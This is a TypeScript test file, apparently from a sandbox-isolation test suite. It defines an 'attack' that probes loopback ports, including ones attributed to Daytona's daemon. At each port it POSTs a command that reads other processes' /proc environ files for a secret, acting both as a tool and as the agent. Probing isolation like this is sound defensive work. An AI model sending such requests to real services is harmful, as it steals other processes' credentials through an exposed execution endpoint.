import { runProgram } from "../../programs/run-program.js";
import { waitForLine } from "../../programs/wait-for.js";
import { type Attack, blocked, notRun } from "../attack.js";
import { outcomeOf } from "../program-attack.js";
import { holderCommand } from "./holder.js";

/** Ports on which platforms' own services inside are known to accept requests of every process: Daytona's daemon. */
const known = [2_280, 22_220, 22_222, 33_333];

/**
 * As a tool, and as the agent. Unguarded, a decoy on this host's loopback responds like such a service; guarded, the
 * network is off, so any response comes from the sandbox's own service.
 */
export const supervisor: Attack = {
  id: "environment.per-tool/supervisor",
  stoppedBy: ["network namespace"],
  capability: "environment.per-tool",
  title: "make a service of the platform, as a tool and as the agent, read another tool's environment",
  perform: async (stage) => {
    const { decoys } = stage;
    const sandbox = await stage.openAnother({ network: "off" });
    const holder = await sandbox.spawn(holderCommand(stage));
    try {
      if ((await waitForLine(holder.stdout, "{")) === undefined)
        return notRun("the process that holds the secret ended");
      const parameters = { known, decoy: decoys.onLoopback.port };
      const outcomes = [];
      for (const role of ["tool", "agent"] as const) {
        const outcome = outcomeOf(await runProgram(sandbox, program, parameters, { role }));
        if (outcome.result !== "blocked") return outcome;
        outcomes.push(`as ${role}: ${outcome.detail}`);
      }
      return blocked(outcomes.join("; "));
    } finally {
      await holder.kill();
    }
  },
};

const program = String.raw`
def addresses():
    yield (socket.AF_INET, "127.0.0.1")
    yield (socket.AF_INET6, "::1")
    try:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
            probe.connect(("192.0.2.1", 9))
            yield (socket.AF_INET, probe.getsockname()[0])
    except OSError:
        pass

def order(family, host, port):
    body = json.dumps({"command": "cat /proc/[0-9]*/environ | tr '\\0' '\\n' | grep HOLDER_SECRET"}).encode()
    with socket.socket(family, socket.SOCK_STREAM) as client:
        client.settimeout(3)
        client.connect((host, port))
        client.sendall(b"POST /process/execute HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: %d\r\nConnection: close\r\n\r\n" % len(body) + body)
        answer = b""
        while len(answer) < 1 << 16:
            piece = client.recv(4096)
            answer += piece
            if not piece or leaks(answer):
                break
        # A known service that accepts connections also accepts requests, in its own protocol.
        return leaks(answer) or (port in P["known"] and "port %d accepts connections" % port)

for port in [P["decoy"], *P["known"]]:
    for family, host in addresses():
        attempt("%s port %d" % (host, port), lambda: order(family, host, port))
`;
